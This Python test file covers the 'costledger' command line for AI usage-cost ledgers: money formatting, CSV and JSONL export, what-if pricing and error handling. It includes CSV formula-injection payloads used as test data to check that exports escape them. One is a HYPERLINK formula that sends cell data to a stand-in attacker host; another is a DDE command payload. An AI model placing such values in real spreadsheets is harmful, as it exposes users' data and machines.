"""Fixes from the third review of the reports and the command line, each through the real
``costledger`` command (CliRunner, or a real process where a pipe matters) on real ledgers:
SQLite files, and PostgreSQL where the code differs (``url`` runs both)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import textwrap
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from costledger import Cost, Usage, UsageEvent, UsageLogger
from costledger._ledger import Ledger
from costledger._reports import export
from costledger.cli import app

UTC = timezone.utc
JUNE = datetime(2025, 6, 1, 12, tzinfo=UTC)


def run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def record(url: str, *events: UsageEvent) -> None:
    with Ledger(url, sync=True) as ledger:
        ledger.record_many(list(events))


def priced(
    total: str, *, model: str = "gpt-4o", currency: str = "USD", **fields: Any
) -> UsageEvent:
    fields.setdefault("timestamp", JUNE)
    fields.setdefault("usage", Usage(input_tokens=10, output_tokens=5))
    cost = Cost("priced", total=Decimal(total), currency=currency)
    return UsageEvent(model=model, cost=cost, **fields)


def unpriced(model: str = "mystery", **fields: Any) -> UsageEvent:
    fields.setdefault("timestamp", JUNE)
    return UsageEvent(
        model=model,
        usage=Usage(input_tokens=10, output_tokens=10),
        cost=Cost("unknown_model"),
        **fields,
    )


def cells(table: str, first: str) -> list[str]:
    """The cells of the table line whose first cell is ``first``."""
    for line in table.splitlines():
        parts = [p.strip() for p in line.replace("┃", "│").split("│")]  # header: ┃
        if parts[0] == first:
            return parts
    raise AssertionError(f"no line {first!r} in:\n{table}")


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def one_error_line(result: Result) -> str:
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ")
    return lines[0]


# -- 1. the table never rounds money -------------------------------------------------------------


def test_table_shows_money_with_every_digit(url: str) -> None:
    record(
        url,
        priced("1234.567890123456789012", team="search"),
        priced("1234567890123456789.123456789012345678", team="big", id="dear"),
    )
    # 1234.567890123456789012 x 0.92131234567: 33 significant digits, exact
    converted = run(
        "report", "--db", url, "--by", "team", "--team", "search",
        "--currency", "EUR", "--rate", "USD=0.92131234567",
    )  # fmt: skip
    assert converted.exit_code == 0, converted.output
    assert cells(converted.stdout, "search")[-2] == "1,137.42263873850480017353200177804"
    assert cells(converted.stdout, "total")[-2] == "1,137.42263873850480017353200177804"
    # 37 digits (the ledger stores up to 38): the old table kept 28 of them
    top = run("top", "1", "--db", url)
    assert top.exit_code == 0, top.output
    assert cells(top.stdout, "2025-06-01 12:00:00")[-2] == (
        "1,234,567,890,123,456,789.123456789012345678"
    )


# -- 2. CSV cells a spreadsheet would run as formulas --------------------------------------------

HOSTILE = {
    "user": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "team": "+cmd|' /C calc'!A0",
    "project": "-2+3",
    "feature": "@SUM(A1:A9)",
}


def _hostile(url: str) -> None:
    record(
        url,
        priced("0.5", tags=("\tbeta", "\rgamma"), metadata={"note": "=1+1"}, **HOSTILE),
        # a what-if saving below zero: $0.50 then, $0.75 under the book (1M input tokens)
        priced(
            "0.5",
            model="gpt-4o",
            provider="openai",
            usage=Usage(input_tokens=1_000_000),
            timestamp=JUNE + timedelta(hours=1),
            team="plain",
        ),
    )


def _escaped(value: str) -> str:
    return "'" + value


def test_every_cli_csv_escapes_text_that_starts_a_formula(url: str, tmp_path: Path) -> None:
    _hostile(url)
    report = run("report", "--db", url, "--by", "user,team,project,feature", "-f", "csv")
    assert report.exit_code == 0, report.output
    (row,) = [r for r in csv_rows(report.stdout) if r["team"] != "plain"]
    assert {k: row[k] for k in HOSTILE} == {k: _escaped(v) for k, v in HOSTILE.items()}
    by_tag = csv_rows(run("report", "--db", url, "--by", "tag", "-f", "csv").stdout)
    assert sorted(r["tag"] for r in by_tag) == ["", "'\tbeta", "'\rgamma"]

    top = csv_rows(run("top", "2", "--db", url, "-f", "csv").stdout)
    hostile = next(r for r in top if r["team"] != "plain")
    assert {k: hostile[k] for k in HOSTILE} == {k: _escaped(v) for k, v in HOSTILE.items()}
    # JSON text starts with [ or {: nothing to escape, and it stays JSON
    assert json.loads(hostile["tags"]) == ["\tbeta", "\rgamma"]
    assert json.loads(hostile["metadata"]) == {"note": "=1+1"}

    book = tmp_path / "book.toml"
    book.write_text('["gpt-4o"]\ninput = "0.75"\noutput = "0"\n')
    whatif = run("whatif", "--db", url, "-p", str(book), "--team", "plain", "-f", "csv")
    assert whatif.exit_code == 0, whatif.output
    (w,) = csv_rows(whatif.stdout)
    # numbers stay numbers, however they start
    assert (w["cost_then"], w["cost_book"], w["savings"], w["savings_share"]) == (
        "0.5",
        "0.75",
        "-0.25",
        "-0.500000",
    )


def test_export_csv_escapes_formulas_unless_raw(url: str, tmp_path: Path) -> None:
    _hostile(url)
    default = run("export", "--db", url, "-f", "csv", "--team", HOSTILE["team"])
    assert default.exit_code == 0, default.output
    (row,) = csv_rows(default.stdout)
    assert {k: row[k] for k in HOSTILE} == {k: _escaped(v) for k, v in HOSTILE.items()}
    assert Decimal(row["total_cost"]) == Decimal("0.5")  # PostgreSQL: 0.500000000000000000

    raw = run("export", "--db", url, "-f", "csv", "--csv-raw", "--team", HOSTILE["team"])
    assert raw.exit_code == 0, raw.output
    (row,) = csv_rows(raw.stdout)
    assert {k: row[k] for k in HOSTILE} == HOSTILE

    out = io.BytesIO()
    export(url, out, "csv", csv_raw=True, team=HOSTILE["team"])
    (row,) = csv_rows(out.getvalue().decode())
    assert {k: row[k] for k in HOSTILE} == HOSTILE
    out = io.BytesIO()
    export(url, out, "csv", team=HOSTILE["team"])
    (row,) = csv_rows(out.getvalue().decode())
    assert row["user"] == _escaped(HOSTILE["user"])

    wrong = run("export", "--db", url, "-f", "jsonl", "--csv-raw")
    assert wrong.exit_code == 2
    assert "--csv-raw" in one_error_line(wrong)
    with pytest.raises(ValueError, match="csv_raw"):
        export(url, io.BytesIO(), "jsonl", csv_raw=True)


# -- 3. what-if: calls the book prices in another currency ---------------------------------------


def test_whatif_table_shows_no_amount_for_calls_priced_in_another_currency(
    url: str, tmp_path: Path
) -> None:
    record(
        url,
        *(
            priced(
                "3.40",
                currency="EUR",
                provider="openai",
                usage=Usage(input_tokens=1_000_000, output_tokens=100_000),
                timestamp=JUNE + timedelta(minutes=i),
            )
            for i in range(3)
        ),
    )
    book = tmp_path / "usd_book.toml"
    book.write_text('["gpt-4o"]\ninput = "2"\noutput = "8"\n')
    result = run("whatif", "--db", url, "--price-book", str(book))
    assert result.exit_code == 0, result.output
    header = cells(result.stdout, "model")
    row = dict(zip(header, cells(result.stdout, "gpt-4o"), strict=True))
    assert row == {
        "model": "gpt-4o",
        "currency": "EUR",
        "requests": "3",
        "cost then": "10.20",
        "under the book": "-",
        "savings": "-",
        "savings %": "-",
        "unpriced then": "0",
        "unpriced in book": "0",
        "book in other currency": "3",
    }
    total = dict(zip(header, cells(result.stdout, "total"), strict=True))
    assert (total["under the book"], total["book in other currency"]) == ("-", "3")
    assert (
        "3 call(s) are priced by the book in another currency than they were priced in"
        in result.stderr
    )


# -- 4. CSV values encoded as the export encodes them --------------------------------------------


def test_top_csv_encodes_each_value_as_export_csv_does(url: str) -> None:
    record(
        url,
        priced(
            "0.5",
            user="ann",
            tags=("beta", "it's"),
            metadata={"ticket": "A-1", "n": 2},
            price_context={"service_tier": "flex"},
            streamed=True,
            latency_ms=12.5,
        ),
    )
    top = run("top", "-f", "csv", "--db", url)
    exported = run("export", "-f", "csv", "--db", url)
    assert top.exit_code == 0, top.output
    assert exported.exit_code == 0, exported.output
    (t,) = csv_rows(top.stdout)
    (e,) = csv_rows(exported.stdout)
    assert t == e  # one encoder: every column, the same text
    assert t["tags"] == '["beta","it\'s"]'
    assert json.loads(t["metadata"]) == {"ticket": "A-1", "n": 2}  # JSONB orders keys its way
    assert t["price_context"] == '{"service_tier":"flex"}'
    assert (t["streamed"], t["cache_hit"], t["latency_ms"], t["error_type"]) == (
        "true",
        "false",
        "12.5",
        "",
    )


def test_budget_status_csv_writes_booleans_as_true_false(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, priced("1", timestamp=datetime.now(UTC) - timedelta(minutes=5)))
    budgets = tmp_path / "budgets.toml"
    budgets.write_text(
        textwrap.dedent(
            """\
            [[budget]]
            limit = "10 USD"
            period = "day"

            [[budget]]
            limit = "100 USD"
            period = "day"
            hard = false
            """
        )
    )
    result = run("budget", "status", "--db", url, "--budgets", str(budgets), "-f", "csv")
    assert result.exit_code == 0, result.output
    assert [(r["limit"], r["spent"], r["hard"]) for r in csv_rows(result.stdout)] == [
        ("10", "1", "true"),
        ("100", "1", "false"),
    ]


# -- 5. small amounts in plain notation, read back exactly ---------------------------------------


def test_jsonl_export_and_usage_line_write_small_amounts_in_plain_notation(
    url: str, tmp_path: Path
) -> None:
    tiny = Decimal("0.0000002")  # 10 embedding tokens at $0.02 per million
    event = UsageEvent(
        model="text-embedding-3-small",
        usage=Usage(input_tokens=10),
        cost=Cost("priced", total=tiny, input=tiny),
        reported_cost=Decimal("0.00000001"),
        timestamp=JUNE,
    )
    record(url, event)
    result = run("export", "-f", "jsonl", "--db", url)
    assert result.exit_code == 0, result.output
    line = json.loads(result.stdout)
    # plain notation, never 2E-7 (PostgreSQL's NUMERIC(38, 18) adds trailing zeros)
    written = [line[f"costledger.{k}"] for k in ("cost.total", "cost.input", "reported_cost")]
    assert [text.rstrip("0") for text in written] == ["0.0000002", "0.0000002", "0.00000001"]

    stream = io.StringIO()
    UsageLogger(stream).emit(event)
    logged = json.loads(stream.getvalue())
    assert logged["costledger.cost.total"] == "0.0000002"
    assert logged["costledger.reported_cost"] == "0.00000001"

    # ingest reads the export back: the same amounts, exactly
    path = tmp_path / "export.jsonl"
    path.write_text(result.stdout)
    again = f"sqlite:///{tmp_path / 'again.db'}"
    ingested = run("ingest", str(path), "--db", again)
    assert ingested.exit_code == 0, ingested.output
    with Ledger(again, sync=True) as ledger:
        (stored,) = ledger.events()
    assert (stored.total_cost, stored.input_cost, stored.reported_cost) == (
        tiny,
        tiny,
        Decimal("0.00000001"),
    )


# -- 6. usage errors exit 2 ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("since", "until"),
    [
        ("2025-02-01", "2025-01-01"),
        ("now", "1h"),
        ("now", "now"),
        ("2025-01-01T12:00", "2025-01-01T12:00"),
    ],
)
@pytest.mark.parametrize("command", [["report"], ["top"], ["export"], ["whatif", "-p", "BOOK"]])
def test_an_empty_time_range_is_a_usage_error(
    tmp_path: Path, since: str, until: str, command: list[str]
) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, priced("1"))
    book = tmp_path / "book.toml"
    book.write_text('["gpt-4o"]\ninput = "1"\noutput = "1"\n')
    args = [str(book) if a == "BOOK" else a for a in command]
    result = run(*args, "--db", url, "--since", since, "--until", until)
    assert result.exit_code == 2, result.output
    line = one_error_line(result)
    assert line.startswith(f"error: --since {since} (")
    assert f"is not before --until {until} (" in line
    assert line.endswith("the range is empty; give an earlier --since or a later --until")


def test_an_empty_range_names_both_bounds_as_read(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, priced("1"))
    result = run("report", "--db", url, "--since", "2025-02-01", "--until", "2025-01-01")
    assert one_error_line(result) == (
        "error: --since 2025-02-01 (2025-02-01T00:00:00+00:00) is not before --until "
        "2025-01-01 (2025-01-02T00:00:00+00:00): the range is empty; give an earlier "
        "--since or a later --until"
    )
    # a range that holds a day is fine
    assert (
        run("report", "--db", url, "--since", "2025-06-01", "--until", "2025-06-01").exit_code == 0
    )


def test_top_n_beyond_the_maximum_is_a_usage_error(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, priced("1"))
    for n in ("100000000000000000000", "1000001"):
        result = run("top", n, "--db", url)
        assert result.exit_code == 2, result.output
        line = one_error_line(result)
        assert "1000000" in line
        assert "OverflowError" not in line
    assert run("top", "1000000", "--db", url).exit_code == 0
    # the Python API takes any n: no selection holds more calls than SQL can count
    from costledger._reports import top

    assert [e.total_cost for e in top(url, 10**30)] == [Decimal(1)]


# -- 7. a group of calls priced at 0 beside an unpriced call -------------------------------------


def test_report_shows_zero_for_free_calls_beside_an_unpriced_one(url: str) -> None:
    free = [priced("0", model="llama-local", team="lab") for _ in range(100)]
    record(url, *free, unpriced(team="lab"), unpriced(team="void"))
    result = run("report", "--by", "team", "--db", url)
    assert result.exit_code == 0, result.output
    header = cells(result.stdout, "team")
    lab = dict(zip(header, cells(result.stdout, "lab"), strict=True))
    assert (lab["requests"], lab["unpriced"], lab["cost"]) == ("101", "1", "0.00")
    void = dict(zip(header, cells(result.stdout, "void"), strict=True))
    assert (void["requests"], void["unpriced"], void["cost"]) == ("1", "1", "-")
    total = dict(zip(header, cells(result.stdout, "total"), strict=True))
    assert (total["requests"], total["unpriced"], total["cost"]) == ("102", "2", "0.00")
    only_void = run("report", "--team", "void", "--db", url)
    assert cells(only_void.stdout, "1")[-2:] == ["-", "-"]  # requests is the first cell


def test_whatif_shows_zero_for_free_calls_beside_an_unpriced_one(url: str, tmp_path: Path) -> None:
    free = [priced("0", model="llama-local") for _ in range(3)]
    record(url, *free, unpriced(model="llama-local"))
    book = tmp_path / "book.toml"
    book.write_text('["llama-local"]\ninput = "0"\noutput = "0"\n')
    result = run("whatif", "--db", url, "-p", str(book))
    assert result.exit_code == 0, result.output
    header = cells(result.stdout, "model")
    assert "book in other currency" not in header  # no such call, no such column
    assert "another currency" not in result.stderr
    row = dict(zip(header, cells(result.stdout, "llama-local"), strict=True))
    assert (row["requests"], row["cost then"], row["under the book"], row["unpriced then"]) == (
        "4",
        "0.00",
        "0.00",
        "1",
    )
    # under a book that does not price it at all: nothing under the book
    only = tmp_path / "other.toml"
    only.write_text('["something-else"]\ninput = "1"\noutput = "1"\n')
    result = run("whatif", "--db", url, "-p", str(only), "--only-book")
    row = dict(zip(header, cells(result.stdout, "llama-local"), strict=True))
    assert (row["cost then"], row["under the book"], row["unpriced in book"]) == ("0.00", "-", "4")


# -- minor ---------------------------------------------------------------------------------------


def test_prices_show_names_a_bad_at_once() -> None:
    result = run("prices", "show", "gpt-4o", "--at", "soon")
    assert result.exit_code == 2
    line = one_error_line(result)
    assert line.startswith("error: Invalid value for '--at': cannot read 'soon' as a time;")
    assert line.count("--at") == 1


def test_budget_status_shows_token_amounts_as_whole_numbers(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, priced("1.5", timestamp=datetime.now(UTC) - timedelta(minutes=5)))
    budgets = tmp_path / "budgets.toml"
    budgets.write_text(
        '[[budget]]\nlimit = "1M tokens"\nperiod = "day"\n\n'
        '[[budget]]\nlimit = "1000 USD"\nperiod = "day"\n'
    )
    result = run("budget", "status", "--db", url, "--budgets", str(budgets))
    assert result.exit_code == 0, result.output
    header = cells(result.stdout, "budget")
    tokens = dict(zip(header, cells(result.stdout, "1,000,000 tokens/day"), strict=True))
    assert (tokens["spent"], tokens["reserved"], tokens["remaining"], tokens["limit"]) == (
        "15",
        "0",
        "999,985",
        "1,000,000",
    )
    money = dict(zip(header, cells(result.stdout, "1000 USD/day"), strict=True))
    assert (money["spent"], money["reserved"], money["remaining"], money["limit"]) == (
        "1.50",
        "0.00",
        "998.50",
        "1,000.00",
    )


@pytest.mark.parametrize(
    "args",
    [["report", "--by", "team"], ["top", "5"], ["top", "5", "-f", "csv"], ["export"]],
)
def test_a_closed_pipe_ends_the_command_quietly(tmp_path: Path, args: list[str]) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    record(url, *(priced("1", team=f"t{i}", id=f"e{i}") for i in range(5)))
    proc = subprocess.Popen(
        [sys.executable, "-c", "from costledger.cli import main; main()", *args, "--db", url],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None
    assert proc.stderr is not None
    proc.stdout.close()  # the reader is gone before the first line is written (| head -0)
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141, err
    assert err == ""  # no traceback, no "error:", no "Exception ignored"
